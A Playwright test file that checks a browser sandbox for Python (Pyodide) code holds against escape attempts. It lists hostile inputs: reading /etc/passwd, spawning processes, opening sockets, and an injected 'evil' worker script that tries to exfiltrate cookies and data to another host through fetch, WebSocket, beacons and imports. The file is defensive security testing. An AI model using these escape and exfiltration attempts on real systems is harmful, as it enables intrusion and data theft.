/**
 * What environment code tries to reach and must not: first through Python as every program could, then with the
 * runner's own worker script replaced by the attacker's, which leaves only the frame's walls standing.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { gzipSync } from "node:zlib";
import { readFile } from "node:fs/promises";
import path from "node:path";

import { expect, type Page } from "@playwright/test";

import { manifestSchema } from "@/lib/workers/protocol";

import { COUNTER, makeProgram } from "./harness/programs";
import { play, test } from "./harness/runner-test";

/** Python statements that would leave what they reached in \`got\`; each must raise instead. */
const PYTHON_ATTEMPTS: [name: string, statements: string][] = [
  ["the js module", "import js\ngot = js.fetch"],
  ["the js module by importlib", "import importlib\ngot = importlib.import_module('js')"],
  ["pyodide", "import pyodide\ngot = pyodide"],
  ["pyodide.code.run_js", "from pyodide.code import run_js\ngot = run_js('self')"],
  ["pyodide.http", "from pyodide.http import open_url\ngot = open_url('/')"],
  ["pyodide_js", "import pyodide_js\ngot = pyodide_js"],
  ["the core of Pyodide", "import _pyodide_core\ngot = _pyodide_core"],
  ["micropip", "import micropip\ngot = micropip"],
  ["ctypes", "import ctypes\ngot = ctypes.string_at(0, 8)"],
  ["_ctypes", "import _ctypes\ngot = _ctypes"],
  ["a socket", "import socket\ngot = socket.create_connection(('127.0.0.1', 80))"],
  ["urllib", "import urllib.request\ngot = urllib.request.urlopen('http://127.0.0.1/')"],
  [
    "http.client",
    "import http.client\nc = http.client.HTTPConnection('127.0.0.1')\nc.request('GET', '/')\ngot = c",
  ],
  ["a process", "import subprocess\ngot = subprocess.check_output(['id'])"],
  ["a fork", "import os\ngot = os.fork()"],
  ["the host's files", "got = open('/etc/passwd').read()"],
  ["the host's folders", "import os\ngot = os.listdir('/home/web_user/../../root')"],
];

/** Tries one Python attempt a turn: the action says which. */
const ATTEMPTING = makeProgram({
  prelude: `ATTEMPTS = ${JSON.stringify(PYTHON_ATTEMPTS.map(([, statements]) => statements))}`,
  step: `names = {}
try:
    exec(ATTEMPTS[int(re.search(r"\\d+", action).group())], names)
    return f"REACHED {names['got']!r}", 0.0, False, False, {}
except Exception as error:
    return f"refused {type(error).__name__}", 0.0, False, False, {}`,
});

test("Python reaches neither JavaScript nor a network, a process or the host's files", async ({
  sharedPage,
}) => {
  const outcome = await play(
    sharedPage,
    ATTEMPTING,
    PYTHON_ATTEMPTS.map((_, index) => `go ${index}`),
  );
  const found = outcome.turns.map((turn, index) => [
    PYTHON_ATTEMPTS[index]?.[0],
    turn.ok ? turn.value.observation : turn.error.code,
  ]);
  expect(found).toHaveLength(PYTHON_ATTEMPTS.length);
  for (const [name, observation] of found) expect(observation, name).toMatch(/^refused \w+Error$/);
});

test("no JavaScript object that the interpreter holds leads back to the page's world", async ({
  sharedPage,
}) => {
  const step = `import gc
found = []
for thing in gc.get_objects():
    if type(thing).__name__ != 'JsProxy':
        continue
    for way in ("fetch", "postMessage", "constructor.constructor", "globalThis", "self"):
        try:
            value = thing
            for part in way.split("."):
                value = getattr(value, part)
            if way == "constructor.constructor":
                value = value("return typeof self.fetch + typeof self.postMessage")()
                if value == "undefinedundefined":
                    continue
            found.append(f"{way}: {value!r}"[:80])
        except BaseException as error:
            pass
return " | ".join(found) or "nothing", 0.0, False, False, {}`;
  const outcome = await play(sharedPage, makeProgram({ step }), ["go"]);
  expect(outcome.turns).toMatchObject([{ ok: true, value: { observation: "nothing" } }]);
});

test("what one environment leaves behind is not there for the next", async ({ sharedPage }) => {
  const leave = makeProgram({
    step: "import builtins, sys\nbuiltins.left = 1\nsys.left = 1\njson.left = 1\nopen('/tmp/left', 'w').write('x')\nreturn 'left', 0.0, False, False, {}",
  });
  const look = makeProgram({
    step: "import builtins, os, sys\nfound = [hasattr(builtins, 'left'), hasattr(sys, 'left'), hasattr(json, 'left'), os.path.exists('/tmp/left')]\nreturn str(found), 0.0, False, False, {}",
  });
  expect((await play(sharedPage, leave, ["go"])).turns).toMatchObject([{ ok: true }]);
  expect((await play(sharedPage, look, ["go"])).turns).toMatchObject([
    { ok: true, value: { observation: "[False, False, False, False]" } },
  ]);
});

/** Replaces the worker's script by an attacker's; everything else stays as built. */
async function replaceWorker(page: Page, script: string): Promise<void> {
  const file = path.join(import.meta.dirname, "..", "public", "runtime", "manifest.json");
  const manifest = manifestSchema.parse(JSON.parse(await readFile(file, "utf8")));
  const body = gzipSync(script);
  const worker = { file: "evil.gz.bin", bytes: body.length, isGzipped: true };
  const changed = { ...manifest, files: { ...manifest.files, workerScript: worker } };
  await page.route("**/runtime/manifest.json", (route) => route.fulfill({ json: changed }));
  await page.route("**/runtime/evil.gz.bin", (route) => route.fulfill({ body }));
}

/** JavaScript expressions, each a promise or a value; `reached` when it resolves, `refused` when it throws. */
const WORKER_ATTEMPTS: Record<string, string> = {
  "fetch of the site": "fetch(SITE + 'stolen-fetch')",
  "fetch of another host": "fetch(OTHER + 'stolen-fetch')",
  "opaque fetch of another host": "fetch(OTHER + 'stolen-no-cors', { mode: 'no-cors' })",
  "fetch with the site's cookies":
    "fetch(SITE + 'stolen-cookie', { credentials: 'include', mode: 'no-cors' })",
  XMLHttpRequest:
    "new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open('GET', OTHER + 'stolen-xhr'); x.send(); })",
  "synchronous XMLHttpRequest":
    "(() => { const x = new XMLHttpRequest(); x.open('GET', OTHER + 'stolen-sync', false); x.send(); })()",
  WebSocket:
    "new Promise((yes, no) => { const s = new WebSocket(OTHER.replace('http', 'ws') + 'stolen-socket'); s.onopen = yes; s.onerror = no; })",
  EventSource:
    "new Promise((yes, no) => { const s = new EventSource(OTHER + 'stolen-events'); s.onopen = yes; s.onerror = no; })",
  importScripts: "importScripts(OTHER + 'stolen-script.js')",
  "import()": "import(OTHER + 'stolen-module.js')",
  "a nested worker from the site":
    "new Promise((yes, no) => { const w = new Worker(SITE + 'page.js'); w.onmessage = yes; w.onerror = no; setTimeout(no, 1500); })",
  "a font": "new FontFace('x', 'url(' + OTHER + 'stolen-font)').load()",
  "a beacon":
    "new Promise((yes, no) => (navigator.sendBeacon ? yes(navigator.sendBeacon(OTHER + 'stolen-beacon')) : no()))",
  eval: "eval('1')",
  "Function()": "new Function('return 1')()",
  IndexedDB:
    "new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; })",
  "Cache Storage": "caches.open('x')",
  "the private file system": "navigator.storage.getDirectory()",
  localStorage: "localStorage.length",
  cookies: "document.cookie.length",
  "the page": "parent.document",
};

test("a worker wholly in an attacker's hands reaches nothing outside the frame", async ({
  page,
  site,
}) => {
  const heard: string[] = [];
  const other = createServer((request, response) => {
    heard.push(request.url ?? "");
    response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("1");
  });
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  const otherUrl = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`;
  const attempts = Object.entries(WORKER_ATTEMPTS)
    .map(([name, code]) => `await attempt(${JSON.stringify(name)}, async () => ${code});`)
    .join("\n");
  // The one way out of a worker is a message; a fatal one reaches the page as an error's text.
  const script = `
    const SITE = ${JSON.stringify(site.url)}, OTHER = ${JSON.stringify(otherUrl)};
    const reached = [];
    const attempt = async (name, run) => {
      try {
        await Promise.race([run(), new Promise((_, no) => setTimeout(no, 3000))]);
        reached.push(name);
      } catch {}
    };
    (async () => {
      new BroadcastChannel("app").postMessage("hello");
      ${attempts}
      postMessage({ type: "fatal", message: "REACHED " + JSON.stringify(reached) });
    })();`;
  await replaceWorker(page, script);
  await page.context().addCookies([{ name: "secret", value: "1", url: site.url }]);
  await page.goto(site.url);
  const before = site.requests.length;
  const overheard = page.evaluate(
    () =>
      new Promise<boolean>((resolve) => {
        new BroadcastChannel("app").onmessage = () => {
          resolve(true);
        };
        setTimeout(() => {
          resolve(false);
        }, 8_000);
      }),
  );
  await page.evaluate(() => {
    window.harness.start({ usesSnapshot: false });
  });
  const outcome = await play(page, COUNTER);
  expect(outcome.load).toMatchObject({ ok: false, error: { code: "runner/crashed" } });
  expect(outcome.load.ok ? "" : outcome.load.error.message).toContain("REACHED []");
  expect(await overheard).toBe(false);
  expect(heard).toEqual([]);
  expect(site.requests.slice(before).filter((url) => url.includes("stolen"))).toEqual([]);
  other.close();
});

/** Messages by which a worker might pass itself off as the runner. */
const FORGERIES: Record<string, string> = {
  "a reply that nobody asked for":
    "postMessage({ type: 'reply', requestId: 'guess', reply: '{}' })",
  "a reply that is no text":
    "postMessage({ type: 'reply', requestId: 'guess', reply: { ok: true } })",
  "ready twice": "postMessage({ type: 'ready' }); postMessage({ type: 'ready' })",
  "a message of another kind":
    "postMessage({ type: 'dead', workerId: 1, reason: 'crashed', message: '' })",
  "a flood": "for (let n = 0; n < 100000; n++) postMessage(n)",
  "300 texts of 5 MB":
    "const big = 'x'.repeat(5e6); for (let n = 0; n < 300; n++) postMessage(big)",
};

for (const [name, code] of Object.entries(FORGERIES))
  test(`a worker that sends ${name} is ended, and the page does not stall`, async ({
    page,
    site,
  }) => {
    await replaceWorker(page, `postMessage({ type: "started" }); onmessage = () => { ${code} };`);
    await page.goto(site.url);
    await page.evaluate(() => {
      window.harness.start({ usesSnapshot: false, startMs: 20_000, loadMs: 3_000 });
    });
    const outcome = await play(page, COUNTER);
    expect(outcome.load).toMatchObject({ ok: false, error: { code: "runner/crashed" } });
    expect(outcome.longestStallMs).toBeLessThan(2_500);
  });

test("an answer outside the protocol ends its interpreter", async ({ page, site }) => {
  for (const reply of ["not json", "{}", '{"ok":true,"value":{"className":3}}']) {
    await page.unrouteAll();
    await replaceWorker(
      page,
      `postMessage({ type: "started" });
       onmessage = ({ data }) => postMessage(data.type === "boot" ? { type: "ready" }
         : { type: "reply", requestId: data.requestId, reply: ${JSON.stringify(reply)} });`,
    );
    await page.goto(site.url);
    const outcome = await play(page, COUNTER);
    expect(outcome.load).toMatchObject({ ok: false, error: { code: "runner/crashed" } });
    expect(outcome.load.ok ? "" : outcome.load.error.message).toContain("cannot be read");
  }
});

test("the frame is sandboxed, and its policy allows no connection", async ({
  sharedPage,
  site,
}) => {
  await play(sharedPage, COUNTER);
  const frame = sharedPage.locator("iframe");
  await expect(frame).toHaveAttribute("sandbox", "allow-scripts");
  const source = (await frame.getAttribute("src")) ?? "";
  const text = await (await fetch(source)).text();
  const policy = /Content-Security-Policy" content="([^"]*)"/.exec(text)?.[1] ?? "";
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("connect-src 'none'");
  expect(policy).not.toContain("unsafe-inline");
  expect(policy).not.toMatch(/'unsafe-eval'/);
  expect(source.startsWith(site.url)).toBe(true);
});
